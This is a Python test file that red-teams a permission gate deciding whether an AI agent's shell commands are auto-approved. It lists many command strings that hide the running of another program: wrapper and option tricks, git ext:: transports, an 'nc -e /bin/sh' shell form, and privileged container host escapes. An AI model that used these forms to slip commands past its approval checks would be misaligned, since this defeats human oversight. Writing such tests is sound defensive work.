"""Red team, programs that run programs (R4.8, R4.9): a program that runs a command line or a program named in
its options or arguments (git transports and pagers, npm, ssh, root logins, network tools, build tools,
builtins that run a command given to them, git/hub/cargo aliases and subcommands that are not their own) never
gets that command auto-approved, and a deny rule for it denies.

Three settings are tried for "never auto-approved": the container floor, auto mode (autonomy "*"), and a
project whose allow list holds a prefix rule for every program involved (a prefix allow never covers an
opaque segment). Where the command the program runs can be read, a deny rule for it must deny.
"""

from __future__ import annotations

import pytest

from permissions.always import derive_always
from permissions.tests.helpers import AUTO_MODE, CONTAINER_RUNNING, term
from permissions.tests.redteam import BROAD_ALLOW, DENY, _denied, _never_auto

# -- leftover 3: programs that run a command line or program named in their options ---------------------
RUNS_A_PROGRAM = [
    "fd -x curl",
    "fd -e py --exec curl {} ;",
    "fdfind -X curl",
    "fd --exec-batch curl",
    "rg --pre curl foo",
    "rg --pre=curl foo",
    "rg --hostname-bin=curl foo",
    "zip -TT curl x.zip f",
    "zip -T --unzip-command=curl x.zip f",
    "zip --unzip-command curl x.zip f",
    "man --html=curl ls",
    "man -Hcurl ls",
    "make SHELL=curl all",
    "make 'SHELL=curl x' all",
    "/usr/bin/make .SHELLFLAGS=-c SHELL=curl",
    "flock /tmp/l curl x",
    "flock -n -w 3 /tmp/l curl x",
    "systemd-inhibit --why=x curl x",
    "proot curl x",
    "perf record curl x",
    "gdb --args curl x",
    "stack exec -- curl x",
    "cabal exec curl",
    "hatch run curl x",
    "devbox run curl",
    "direnv exec . curl x",
    "nix-shell --run 'curl x'",
    "nix-shell -p jq --command 'curl x'",
    "nix develop -c curl x",
    "vagrant ssh -c 'curl x'",
    # the verb given as a path still runs its inline script (R4.8)
    "/bin/sh -c 'curl x'",
    "/usr/bin/bash -c 'curl x'",
    "/usr/bin/watch 'curl x'",
    # shells the table did not know
    "csh -c 'curl x'",
    "tcsh -fc 'curl x'",
    "yash -c 'curl x'",
    "posh -c 'curl x'",
    "rbash -c 'curl x'",
    "ksh93 -c 'curl x'",
]


@pytest.mark.parametrize("command", RUNS_A_PROGRAM)
def test_a_program_named_in_options_or_run_by_a_wrapper_is_a_segment(command):  # R4.9
    _denied(command)


CONFIG_RUNS_COMMANDS = [
    "ssh -F cfg host",
    "ssh -F ./cfg host ls",
    "ssh -qF cfg host",
    "scp -F cfg a host:b",
    "make SHELL=/bin/bash",
    "nix run nixpkgs#hello",
    "echo ls | csh",
    "echo ls | /bin/sh",
    "echo ls | rbash",
]


@pytest.mark.parametrize("command", CONFIG_RUNS_COMMANDS)
def test_a_configuration_or_input_that_runs_commands_is_never_auto_approved(command):  # R4.9
    _never_auto(command)


# -- leftover 3 (git): transports and pagers named in arguments -----------------------------------------
GIT_RUNS = [
    "git -c protocol.ext.allow=always fetch ext::curl",
    "git ls-remote 'ext::curl x'",
    "git clone 'ext::sh -c curl% x' d",
    "git grep -Ocurl foo",
    "git grep --open-files-in-pager=curl foo",
]


@pytest.mark.parametrize("command", GIT_RUNS)
def test_git_transport_and_pager_arguments_are_segments(command):  # R4.9
    _denied(command)


def test_allowing_a_transport_protocol_is_never_auto_approved():  # R4.9
    _never_auto("git -c protocol.file.allow=always submodule update")


# -- class 6/7, further ------------------------------------------------------------------------------------
NPM_AND_GIT_RUN = [
    "npm test --script-shell=/bin/curl",
    "npm --script-shell curl run x",
    "npm explore x -- curl x",
    "npm --prefix x exec curl",
    "npm --prefix x exec -- curl y",
    "git -c core.alternateRefsCommand=curl fetch",
    "git -c browser.x.path=curl help -w x",
]


@pytest.mark.parametrize("command", NPM_AND_GIT_RUN)
def test_npm_and_git_options_that_name_a_program_are_segments(command):  # R4.9, programs that run programs
    _denied(command)


def test_python_given_to_git_filter_repo_is_opaque():  # R4.9, programs that run programs
    _never_auto("git filter-repo --commit-callback 'x'")
    _never_auto("pnpm --node-options=--require=x test")


ROOT_LOGINS = [
    "ssh root@localhost ls",
    "ssh -l root localhost ls",
    "ssh -o User=root 127.0.0.1 ls",
    # Downloads: a copy to root@h is also an upload, capped as an external effect first (§5 step 6, uploads).
    "scp root@h:/x f",
    "rsync -a root@h:/x f",
]


@pytest.mark.parametrize("command", ROOT_LOGINS)
def test_a_login_as_root_is_privileged(command):  # §5 step 6, privilege under other names
    v = term(command, allow=BROAD_ALLOW + ("Terminal(rsync)",), autonomy=AUTO_MODE)
    assert (v.decision, v.reason) == ("require_approval", "cap_privileged"), command


def test_a_login_as_another_user_is_not_privileged():  # §5 step 6, privilege under other names
    v = term("ssh deploy@host uptime", allow=("Terminal(ssh)", "Terminal(uptime)"))
    assert v.decision == "auto_approve", v.reason


# -- more programs that run a program: wrappers, network tools, build tools --------------------------------
MORE_RUNNERS = [
    "ssh-agent curl x",
    "dbus-launch curl x",
    "envdir d curl x",
    "setuidgid u curl x",
    "softlimit -m 1 curl x",
    "ccache curl x",
    "cpulimit -l 5 -- curl x",
    "trickle -d 10 curl x",
    "aa-exec -p x curl x",
    "runcon u curl x",
    "setarch x86_64 curl x",
    "linux64 curl x",
    "eatmydata curl x",
    "rlwrap curl x",
    "screen -dm curl x",
    "dtach -n s curl x",
    "toybox wget x",
    "/lib64/ld-linux-x86-64.so.2 /usr/bin/curl x",
    "cmake -E env curl x",
    "uv tool run curl",
    "socat - EXEC:curl",
    "socat SYSTEM:'curl x' -",
    "ncat -c 'curl x' h 1",
    "ncat --exec 'curl x' -l 1",
    "go build -toolexec curl",
    "go test -exec curl ./...",
    "go vet -vettool=curl",
    "meson test --wrapper curl",
    "RUSTC_WRAPPER=curl cargo build",
    "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=curl cargo test",
]


@pytest.mark.parametrize("command", MORE_RUNNERS)
def test_more_programs_that_run_a_program_are_looked_through(command):  # R4.9, programs that run programs
    _denied(command)


@pytest.mark.parametrize(
    "command",
    [
        "go generate ./...",
        "cargo --config 'target.x.runner=\"curl\"' run",
        "cargo test --config x.toml",
        "GOFLAGS=-toolexec=curl go build",
        "screen -X stuff 'curl x'",
        "mvn exec:exec -Dexec.executable=curl",
        "nc -e /bin/sh h 1",
    ],
)
def test_build_and_network_tools_running_unread_programs_are_never_auto_approved(command):  # R4.9
    _never_auto(command)


@pytest.mark.parametrize(
    "command", ["go build ./...", "go test ./...", "cargo build", "cargo test --release"]
)
def test_ordinary_builds_stay_auto_approved(command):  # R4.9
    v = term(
        command,
        allow=("Terminal(go test)", "Terminal(go build)", "Terminal(cargo build)", "Terminal(cargo test)"),
    )
    assert v.decision == "auto_approve", v.reason


HOST_ROOT = [
    "docker run --privileged img",
    "docker run -v /:/host img ls",
    "docker run --pid=host img",
    "podman run --privileged img",
    "docker run --mount type=bind,src=/,dst=/h img",
    "docker run -v /var/run/docker.sock:/s img",
    "nsenter -t 1 -a",
    "chroot /host",
]


@pytest.mark.parametrize("command", HOST_ROOT)
def test_a_container_given_the_host_or_another_root_is_privileged(command):  # §5 step 6, privileged
    v = term(command, autonomy=AUTO_MODE)
    assert (v.decision, v.reason) == ("require_approval", "cap_privileged"), command


def test_an_ordinary_container_run_is_not_privileged():  # §5 step 6, privilege under other names
    assert term("docker run -v ./src:/src img", project=CONTAINER_RUNNING).decision == "auto_approve"


# -- builtins that run a command given to them (checked against bash: compgen -C and fc -e run it) --------
@pytest.mark.parametrize(
    "command", ["compgen -C 'curl x'", "complete -C 'curl x' ls", "fc -e curl", "fc -e 'curl x'"]
)
def test_builtins_given_a_command_run_it(command):  # R4.9, code run from strings
    _denied(command)


@pytest.mark.parametrize(
    "command", ["fc -s", "history -s 'curl x'; fc -s", "set -o emacs; bind -x '\"a\":curl'"]
)
def test_commands_from_the_history_or_key_bindings_are_never_auto_approved(command):  # R4.9
    _never_auto(command)


def test_listing_the_history_is_ordinary():  # R4.9, code run from strings
    assert term("fc -l", project=CONTAINER_RUNNING).decision == "auto_approve"


# -- class 6: a git subcommand that is not one of git's own commands ---------------------------------------
# `git st` runs `alias.st` from .git/config or ~/.gitconfig (`st = !curl x | sh` is a shell line) or a
# `git-st` program on the PATH: no rule reads either, so nothing but an allow for those exact words covers it.
GIT_ALIAS_CALLS = [
    "git st",
    "git st -sb",
    "git lg --oneline",
    "git -C src st",
    "git --no-pager co main",
    "git -c color.ui=never st",
    "git lfs pull",  # a git-lfs program on the PATH, or an alias where it is not installed
    "git svn log",  # a separate package, absent by default: the name falls through to an alias
    "git replay --onto main topic",  # git 2.44: an alias for git 2.39
    "git log --oneline && git st",
]


@pytest.mark.parametrize("command", GIT_ALIAS_CALLS)
def test_a_git_alias_or_git_program_is_never_auto_approved(command):  # R4.9, programs that run programs
    _never_auto(command)
    v = term(command, allow=("Terminal(git)", "Terminal(git lfs)", "Terminal(git -C)", "Terminal(git svn)"))
    assert v.decision != "auto_approve", (command, v.reason)


@pytest.mark.parametrize(
    "command",
    [
        "git status",
        "git log --oneline",
        "git diff",
        "git -C src status",
        "git --no-pager log -5",
        "git show HEAD:src/app.py",
        "git rev-parse --abbrev-ref HEAD",
        "git ls-files",
        "git cat-file -p HEAD",
        "git stash list",
        "git reflog",
        "git describe --tags",
        "git shortlog -sn",
        "git worktree list",
    ],
)
def test_git_s_own_commands_keep_their_verdict(command):  # R4.9, programs that run programs
    assert term(command, allow=("Terminal(git)",)).decision == "auto_approve", command
    assert term(command, project=CONTAINER_RUNNING).decision == "auto_approve", command
    assert term(command, autonomy=AUTO_MODE).decision == "auto_approve", command


def test_an_allow_written_for_the_exact_alias_call_covers_it():  # R4.9, programs that run programs, R4.9
    assert term("git st", allow=("Terminal(git st)",)).decision == "auto_approve"
    assert term("git st -sb", allow=("Terminal(git st)",)).decision != "auto_approve"
    assert derive_always("git st -sb").patterns == ("Terminal(git st -sb)",)


@pytest.mark.parametrize("command", ["git st", "git -C src st", "git st --force"])
def test_deny_rules_still_deny_a_git_alias_call(command):  # R4.9, programs that run programs
    for deny in (("Terminal(git st)",), ("Terminal(git)",)):
        v = term(command, allow=("Terminal(git)",), deny=deny)
        assert v.decision == "deny", (command, deny, v.reason)


def test_the_message_says_git_runs_an_alias_or_a_program():  # R4.9, programs that run programs
    v = term("git st", allow=("Terminal(git)",))
    assert "git-st program" in v.message and "not one of git's own commands" in v.message, v.message


# -- class 6: hub, GitHub's git wrapper ----------------------------------------------------------------------
# hub hands every form but its own commands to git: `hub push` is `git push`, `hub st` a git alias.
HUB_PUBLISHES = [
    "hub push origin main",
    "hub -C src push",
    "hub remote add evil https://x",
    "hub merge https://github.com/o/r/pull/1",
    "hub pull-request -m 'x'",
    "hub release create v1",
    "hub api -X POST repos/o/r/issues",
    "hub api repos/o/r/issues -f title=x",
    "hub create",
    "hub fork",
    "hub -c alias.p=push p",
]


@pytest.mark.parametrize("command", HUB_PUBLISHES)
def test_hub_forms_that_publish_are_capped_like_their_git_forms(command):  # R4.9, RN-418
    for v in (term(command, project=CONTAINER_RUNNING), term(command, autonomy=AUTO_MODE)):
        assert (v.decision, v.reason) == ("require_approval", "cap_external_effect"), (command, v.reason)
    assert term(command, allow=("Terminal(hub)",)).decision == "require_approval", command
    assert derive_always(command).external, command


@pytest.mark.parametrize("command", ["hub st", "hub --no-pager lg", "hub lfs pull"])
def test_a_git_alias_through_hub_is_never_auto_approved(command):  # R4.9, programs that run programs
    _never_auto(command)
    assert term(command, allow=("Terminal(hub)",)).decision != "auto_approve", command


@pytest.mark.parametrize("command", ["hub difftool", "hub branch -D main", "hub -c core.editor=vi commit"])
def test_a_prefix_allow_for_hub_does_not_cover_what_it_would_not_cover_for_git(command):  # R4.9
    assert term(command, allow=("Terminal(hub)",)).decision != "auto_approve", command


def test_deny_rules_for_git_see_through_hub():  # R4.9, programs that run programs, R4.8
    v = term("hub push --force origin main", deny=("Terminal(git push --force)",))
    assert v.decision == "deny", v.reason
    assert term("hub -c core.pager='curl x' log", deny=DENY).decision == "deny"


@pytest.mark.parametrize(
    "command",
    ["hub status", "hub log --oneline", "hub pr list", "hub issue", "hub api repos/o/r", "hub sync"],
)
def test_hub_reading_forms_keep_their_verdict(command):  # R4.9, programs that run programs
    assert term(command, allow=("Terminal(hub)",)).decision == "auto_approve", command
    assert term(command, project=CONTAINER_RUNNING).decision == "auto_approve", command


# -- class 6: a cargo subcommand that is not one of cargo's own -----------------------------------------------
# `cargo x` runs `[alias] x = ...` from a .cargo/config.toml the repository carries, or a cargo-x program.
CARGO_ALIAS_CALLS = [
    "cargo x",
    "cargo nextest run",
    "cargo +nightly xtask dist",
    "cargo --locked xtask",
    "cargo -Z unstable-options xtask",
    "cargo check && cargo xtask",
]


@pytest.mark.parametrize("command", CARGO_ALIAS_CALLS)
def test_a_cargo_alias_or_cargo_program_is_never_auto_approved(command):  # R4.9, programs that run programs
    _never_auto(command)
    assert term(command, allow=("Terminal(cargo)", "Terminal(cargo check)")).decision != "auto_approve"


def test_an_allow_written_for_the_exact_cargo_alias_call_covers_it():  # R4.9, R4.9
    assert term("cargo nextest run", allow=("Terminal(cargo nextest run)",)).decision == "auto_approve"
    assert term("cargo nextest run", allow=("Terminal(cargo nextest)",)).decision != "auto_approve"
    assert derive_always("cargo nextest run").patterns == ("Terminal(cargo nextest run)",)


@pytest.mark.parametrize(
    "command",
    [
        "cargo test",
        "cargo build --release",
        "cargo +nightly check",
        "cargo -vv test",
        "cargo clippy -- -D warnings",
        "cargo fmt --check",
        "cargo t",
        "cargo doc --no-deps",
        "cargo tree",
        "cargo metadata --format-version 1",
    ],
)
def test_cargo_s_own_commands_keep_their_verdict(command):  # R4.9, programs that run programs
    assert term(command, allow=("Terminal(cargo)",)).decision == "auto_approve", command
    assert term(command, project=CONTAINER_RUNNING).decision == "auto_approve", command


def test_deny_rules_still_deny_a_cargo_alias_call():  # R4.9, programs that run programs
    assert term("cargo xtask", allow=("Terminal(cargo)",), deny=("Terminal(cargo xtask)",)).decision == "deny"


@pytest.mark.parametrize(
    "command",
    [
        "git hook run pre-commit",
        "git web--browse http://x",
        "git credential fill",
        "git daemon --export-all",
        "git remote-ext origin 'curl x'",
        "git shell -c 'git-upload-pack x'",
        "git -C src hook run pre-push",
    ],
)
def test_git_commands_that_run_programs_by_nature_are_not_prefix_allowed(command):
    # R4.9: hooks, credential helpers, a browser, a daemon, a command in a remote URL.
    v = term(command, allow=("Terminal(git)",))
    assert v.decision == "require_approval", v
